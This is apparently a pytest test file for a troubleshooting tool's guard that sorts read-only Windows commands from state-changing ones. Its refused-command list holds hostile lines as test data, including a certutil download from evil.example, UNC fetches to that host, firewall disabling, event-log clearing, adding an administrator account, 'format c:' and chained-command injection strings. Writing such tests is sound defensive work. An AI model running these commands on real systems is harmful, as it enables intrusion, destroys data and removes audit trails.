"""The read-only guard for programs of Windows: a labelled list, and what cmd.exe would make of the text."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from troubleshoot.core.cmd_line import CmdLine, read_cmd_line
from troubleshoot.core.kinds import Platform
from troubleshoot.core.risk import is_read

READS = r"""
winrm get winrm/config
winrm g winrm/config/service
winrm e winrm/config/listener
winrm enumerate wmi/root/virtualization/Msvm_ComputerSystem
winrm id -r:HV01.corp.example
winrm identify -remote:HV01 -auth:none
winrm helpmsg 0x80338029
WINRM GET WINRM/CONFIG
winrm.cmd get winrm/config
sc query winrm
sc queryex vmmagent
sc enumdepend winrm
sc.exe qc certsvc
sc \\HV01 query winrm
sc query type= service state= all
net start
net share
net share SYSVOL
nltest /sc_query:corp.example
nltest /sc_verify:corp.example
nltest /dsgetdc:corp.example /force
nltest /server:DC1 /dclist:corp.example
certutil -cainfo
certutil -cainfo certstate 2
certutil -config "CA01.corp.example\Corp Issuing CA 1" -cainfo certversion 2
certutil -enterprise -store NTAuth
certutil -store "ldap:///CN=NTAuthCertificates,CN=Public Key Services,DC=corp,DC=example?cACertificate"
certutil -CATemplates
certutil -ping
dfsrmig /getGlobalState
dfsrmig /getMigrationState
dfsrdiag replicationstate /member:DC2
repadmin /showrepl
repadmin /replsummary
repadmin /showobjmeta DC1 "CN=NTAuthCertificates,DC=corp,DC=example"
netdom query pdc
netdom query fsmo
netdom verify WS01 /domain:corp.example
w32tm /stripchart /computer:DC1 /samples:3 /dataonly
w32tm /query /status
wevtutil qe System /q:"*[System[(EventID=53)]]" /c:20 /rd:true /f:xml /e:Events
wevtutil qe Application /q:"*[System[TimeCreated[timediff(@SystemTime) <= 86400000]]]" /f:xml
wevtutil gl System
reg query HKLM\SOFTWARE\Microsoft\EnterpriseCertificates\NTAuth\Certificates
reg query "HKLM\SYSTEM\CurrentControlSet\Services\DFSR\Parameters\SysVols\Migrating SysVols" /v "Local State"
query session
query session /server:RDS1
qwinsta /counter
quser
ipconfig /all
ipconfig
whoami /groups
hostname
ver
systeminfo /fo csv
tasklist /svc /fi "imagename eq svchost.exe"
nlb query
nlb display
nlb params
wlbs query
ping -n 3 10.20.30.40
tracert -d 10.20.30.40
nslookup -type=srv _ldap._tcp.corp.example 10.20.0.1
arp -a
route print
netstat -ano
netsh interface ipv4 show config
netsh advfirewall show allprofiles
klist -li 0x3e7
setspn -Q HTTP/HV01
gpresult /r /scope computer
schtasks /query /fo csv /v
dcdiag /test:replications /v
dnscmd DC1 /enumzones
dir /o:d %systemroot%\System32\CertSrv\CertEnroll\*.crt
dir "C:\Program Files"
type C:\Windows\Temp\ts.log
echo %date%
date /t
auditpol /get /category:*
netsh dhcp server scope 10.20.0.0 show optionvalue
netsh interface portproxy show all
netsh winhttp show proxy
netsh routing ip rip dump
NETSH.exe Routing IP RIP Dump
netsh routing ip rip show interface
netstat -p tcp
klist tgt -li 0x3e7
certutil -dump C:\\ca\x.cer
type C:\Windows\Temp\Ergebnis-Größe.log
wevtutil qe C:\Logs\System.evtx /lf:true
winrm enumerate http://schemas.microsoft.com/wbem/wsman/1/config/listener
""".strip().splitlines()

CHANGES = r"""
winrm set winrm/config @{MaxTimeoutms="1800000"}
winrm invoke Restore winrm/config @{}
winrm quickconfig -q
winrm delete winrm/config/listener?Address=*+Transport=HTTP
winrm get winrm/config -p:secret
winrm
sc stop winrm
sc config winrm start= disabled
sc \\HV01 stop winrm
sc delete vmmagent
sc
net stop winrm /y
net start winrm
net share data=C:\data
net use * \\server\share
net user operator /add
net localgroup administrators eve /add
net time \\DC1 /set /y
nltest /sc_reset:corp.example
nltest /sc_change_pwd:corp.example
nltest /dsregdns
nltest /dbflag:0x2080ffff
certutil -f -dspublish ca.cer NTAuthCA
certutil -pulse
certutil -enterprise -addstore NTAuth ca.cer
certutil -delstore NTAuth 0
certutil -viewdelstore "ldap:///CN=NTAuthCertificates"
certutil -viewstore NTAuth
certutil -store NTAuth 0 C:\out.cer
certutil -enterprise -store NTAuth 0 C:\out.cer
certutil -ca.cert C:\out.cer 2
certutil -urlcache -f http://evil.example/x x.exe
certutil -decode a b
certutil -setreg CA\LogLevel 4
certutil -store -delstore NTAuth
certutil
dfsrmig /setGlobalState 3
dfsrmig /CreateGlobalObjects
dfsrmig /DeleteRoNtfrsMember RODC7
dfsrdiag pollad /member:DC2
repadmin /syncall /AdeP
repadmin /options DC1 +DISABLE_INBOUND_REPL
repadmin /removelingeringobjects DC1 x y
netdom resetpwd /server:DC1 /userd:CORP\adm /passwordd:x
netdom remove WS01 /domain:corp.example /force
netdom verify WS01 /domain:corp.example /passwordo:x
w32tm /resync
w32tm /config /update
w32tm /stripchart /computer:DC1
wevtutil cl System
wevtutil clear-log System
wevtutil sl System /e:false
wevtutil epl System c:\x.evtx
wevtutil qe System /sbm:c:\x.xml
reg add HKLM\Software\X /v a /d 1
reg delete HKLM\Software\X /f
reg import x.reg
reg export HKLM x.reg
query
logoff 4
reset session 4
ipconfig /release
ipconfig /flushdns
ipconfig /registerdns
nlb stop
nlb drainstop
nlb reload
nlb
ping -t 10.20.30.40
ping -n 9999 10.20.30.40
arp -d *
arp -s 10.0.0.1 00-11-22-33-44-55
route add 10.0.0.0 mask 255.0.0.0 10.0.0.1
route delete 0.0.0.0
netsh interface set interface "LAN" disabled
netsh advfirewall set allprofiles state off
netsh -f script.txt show
netsh routing ip rip
netsh routing ip rip du
netsh routing ip rip dump all
netsh routing ip dump
netsh dump
netsh -r hv01 routing ip rip dump
netsh routing ip rip dump > C:\rip.txt
netsh routing ip rip set interface name="LAN 1" announce=rip2
netsh routing ip rip set flags name="LAN 1" flag=clear
netsh routing ip rip delete interface name="LAN 1"
netsh routing ip rip uninstall
netsh advfirewall export show
nbtstat -R
nbtstat -RR
klist purge
setspn -S HTTP/HV01 CORP\svc
gpresult /h C:\x.html
gpupdate /force
schtasks /create /tn x /tr calc
schtasks /query /tn x /run
schtasks /run /tn x
schtasks
dcdiag /fix
dcdiag /test:dns
dcdiag /v /f:c:\out.txt
dnscmd DC1 /zonedelete corp.example /f
dnscmd /recorddelete corp.example x A
auditpol /set /category:* /success:enable
auditpol /clear
del C:\Windows\Temp\ts.log
copy a b
shutdown /r /t 0
wmic process call create calc
powershell -Command Stop-Service winrm
cmd /c net stop winrm
start notepad
for /l %i in (1,1,3) do net start winrm
hostname & net stop winrm
hostname && net stop winrm
hostname | net stop winrm
hostname > C:\x.txt
type C:\x < C:\y
echo %comspec%
echo hello ^& world
sc query "winrm" & "calc
sc query winrm" & net stop winrm
nlb query) & (nlb stop
"hostname"
icacls C:\x /grant Everyone:F
takeown /f C:\x
bcdedit /set testsigning on
format c:
date 01-01-2020 /t x
hostname newname
klist -li 0x3e7 purge
klist tickets purge
netsh wlan connect show
netsh wlan disconnect show
netsh trace start show
netsh int ip del arpcache show
netsh interface ipv4 se address show
netsh advfirewall s a state off show
netsh http flush logbuffer show
netsh wlan show profile x key=clear
netstat -an 1
ping -n 9 -w 99999999 10.20.30.40
certutil -dump "x\"" -urlcache http://evil.example/x "
certutil -dump "x"" -urlcache "
certutil -dump ＂a＂
certutil –urlcache -dump x
certutil -dump \\evil.example\x
certutil -dump "\\evil.example\x"
certutil -dump http://evil.example/x
certutil -dump con
certutil -store "ldap://evil.example/CN=x"
certutil -store "ldap:////evil.example/CN=x"
dir \\evil.example\x
dir ,\\evil.example\x
dir "\\evil.example\x"
type \\evil.example\x
type \/evil.example\x
type \\.\PhysicalDrive0
type CON
type COM1
type C:\x\con.txt
icacls \\evil.example\x
vol \\evil.example\x
where \\evil.example\x:y
net time \\evil.example
reg query \\evil.example\HKLM
wevtutil qe \\evil.example\x.evtx /lf:true
quser /server:\\evil.example
winrm id -r:http://evil.example -a:basic -un
winrm get winrm/config -file:\\evil.example\x
ipconfig.bat /all
ipconfig.com /all
hostname.cmd
.\hostname
C:\Windows\System32\hostname.exe
hostname.
""".strip().splitlines()


@pytest.mark.parametrize("command", READS)
def test_reads_pass(command: str) -> None:
    assert is_read(Platform.WINDOWS, command)


@pytest.mark.parametrize("command", [*CHANGES, "net accounts", "", "   ", "sc query\nnet stop winrm", "sc query \x00"])
def test_everything_else_is_refused(command: str) -> None:
    assert not is_read(Platform.WINDOWS, command)


@given(
    st.sampled_from(READS), st.sampled_from(["&", "|", ">", "<", "^", "&&", "||", "%comspec%", "!x!", "\n"]), st.data()
)
def test_an_operator_anywhere_outside_quotes_is_refused(command: str, operator: str, data: st.DataObject) -> None:
    outside = [n for n in range(len(command) + 1) if command[:n].count('"') % 2 == 0]
    place = data.draw(st.sampled_from(outside))
    assert not is_read(Platform.WINDOWS, f"{command[:place]}{operator}{command[place:]}")


@given(st.text(alphabet='ab "\\-/', max_size=30))
def test_words_keep_every_character_but_quotes_and_blanks(text: str) -> None:
    line = read_cmd_line(text)
    if isinstance(line, CmdLine):
        kept = "".join(word.lower() for word in (line.program, *line.words)).replace(" ", "")
        assert kept == text.lower().replace('"', "").replace(" ", "")


def test_a_quoted_part_belongs_to_its_word() -> None:
    line = read_cmd_line('wevtutil qe System /q:"*[a and b]" "/e:Events"')
    assert isinstance(line, CmdLine)
    assert line.words == ("qe", "System", "/q:*[a and b]", "/e:Events")
    assert line.quoted == (False, False, True, True)
